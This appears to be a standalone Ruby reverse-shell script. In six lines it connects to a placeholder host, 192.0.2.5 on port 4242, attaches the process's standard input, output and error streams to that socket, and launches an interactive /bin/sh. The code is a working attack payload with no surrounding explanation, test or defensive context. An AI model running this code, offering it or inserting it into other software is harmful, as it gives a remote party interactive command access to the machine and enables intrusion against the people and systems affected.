require 'socket'
s = TCPSocket.new('192.0.2.5', 4242)
$stdin.reopen(s)
$stdout.reopen(s)
$stderr.reopen(s)
exec '/bin/sh', '-i'
